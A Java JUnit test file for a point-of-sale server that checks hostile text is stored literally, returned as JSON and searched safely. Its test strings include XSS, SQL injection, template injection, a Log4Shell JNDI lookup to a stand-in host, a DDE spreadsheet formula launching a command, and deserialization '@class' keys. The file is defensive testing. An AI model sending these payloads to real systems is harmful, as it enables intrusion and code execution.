package truetill.server.abuse;

import static org.assertj.core.api.Assertions.assertThat;
import static truetill.server.app.Person.ADMIN;
import static truetill.server.app.Person.CASHIER;
import static truetill.server.app.Person.MANAGER;
import static truetill.server.app.Scenario.body;

import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import truetill.server.app.Answer;
import truetill.server.app.Person;
import truetill.server.app.ServerFixture;
import truetill.server.app.Unharmed;
import truetill.server.pos.Shop;

/**
 * Text that is a program elsewhere is text here: stored as it came, answered as JSON no browser
 * takes for a page, and found again by its own letters (fault-tests section 4, cases 11, 17, 32).
 */
class HostileTextTest {
  @RegisterExtension static final ServerFixture store = ServerFixture.inMemory();
  @RegisterExtension final Unharmed unharmed = new Unharmed(store);

  private static final List<String> TEXTS =
      List.of(
          "<script>alert(1)</script>",
          "{{7*7}}${7*7}#{7*7}",
          "\u202Egnp.exe\u202C",
          "a\u200Bb\uFEFFc",
          "\uD83D\uDC57\uD83C\uDDE6\uD83C\uDDFA",
          "e\u0301".repeat(20),
          "Robert'); DROP TABLE item;--",
          "\u001B@\u001Bp0\u001DVA",
          "%s%n%x ${jndi:ldap://elsewhere.test/a}",
          "=1+cmd|' /C calc'!A0");

  private int number;

  /** Makes a row with the text in this field and reads it back. */
  private void keeps(Person who, String path, String field, String text, Object... rest) {
    var row = body(field, text);
    row.putAll(body(rest));
    Answer made = store.scenario(text).as(who).post(path, row).gives(201).has(field, text);
    Answer read = store.as(who).get(path + made.id() + "/").gives(200).has(field, text);
    assertThat(read.header("Content-Type").orElseThrow()).startsWith("application/json");
    assertThat(read.header("X-Content-Type-Options")).contains("nosniff");
  }

  private String email() {
    return "hostile" + ++number + "@shop.test";
  }

  @Test
  void everyNameKeepsItsLetters() {
    for (String text : TEXTS) {
      keeps(
          MANAGER, "/accounts/customers/", "first_name", text, "email", email(), "last_name", "x");
      keeps(MANAGER, "/accounts/customers/", "notes", text, customer());
      keeps(
          MANAGER,
          "/consignment/accounts/",
          "last_name",
          text,
          "email",
          email(),
          "first_name",
          "x");
      keeps(ADMIN, "/core/locations/", "name", text, "is_active", false);
      keeps(MANAGER, "/hr/departments/", "name", text);
      keeps(CASHIER, "/pos/registers/", "name", text, "location", 1, "code", "H-" + ++number);
      keeps(CASHIER, "/inventory/items/", "title", text, "price", "1.00", "status", "on_shelf");
      store
          .as(MANAGER)
          .patch("/core/settings/store_name/", body("value", text))
          .gives(200)
          .has("value", text);
    }
  }

  private Object[] customer() {
    return new Object[] {"email", email(), "first_name", "x", "last_name", "x"};
  }

  @Test
  void aReceiptPrintsTheLettersOnly() {
    Shop shop = new Shop(store);
    long drawer = shop.drawer("200.00");
    for (String text : TEXTS) {
      String sku =
          store
              .as(CASHIER)
              .post(
                  "/inventory/items/",
                  body("title", text, "price", "1.00", "status", "on_shelf", "category", "Home"))
              .gives(201)
              .text("sku");
      long cart = shop.cart(drawer);
      shop.add(cart, sku).gives(200).has("lines/0/description", text);
      String receipt = shop.complete(cart).gives(200).text("receipt/receipt_number");
      store
          .as(CASHIER)
          .get("/pos/receipts/" + receipt + "/")
          .gives(200)
          .has("sale/lines/0/description", text);
    }
  }

  @Test
  void aSearchLooksForTheLettersThatWereTyped() {
    Shop shop = new Shop(store);
    shop.item("1.00");
    long all = store.as(CASHIER).get("/inventory/items/").gives(200).at("count").asLong();
    for (String search :
        List.of("'%20OR%201=1--", "%25", "_", "%5C", "%27%3B--", "x".repeat(10_000))) {
      long found =
          store
              .scenario(search)
              .as(CASHIER)
              .get("/inventory/items/?search=" + search)
              .gives(200)
              .at("count")
              .asLong();
      assertThat(found).as(search).isLessThan(all);
    }
  }

  @Test
  void namesOfClassesAreData() {
    Map<String, Object> value =
        Map.of("@class", "java.lang.ProcessBuilder", "@type", "x", "__proto__", Map.of("a", 1));
    store
        .as(MANAGER)
        .post("/core/settings/", body("key", "classes", "value", value))
        .gives(201)
        .has("value/@class", "java.lang.ProcessBuilder")
        .has("value/__proto__/a", 1);
    store
        .as(MANAGER)
        .post("/hr/departments/", body("@class", "java.io.File", "name", "Sorting"))
        .gives(201)
        .has("name", "Sorting");
  }
}
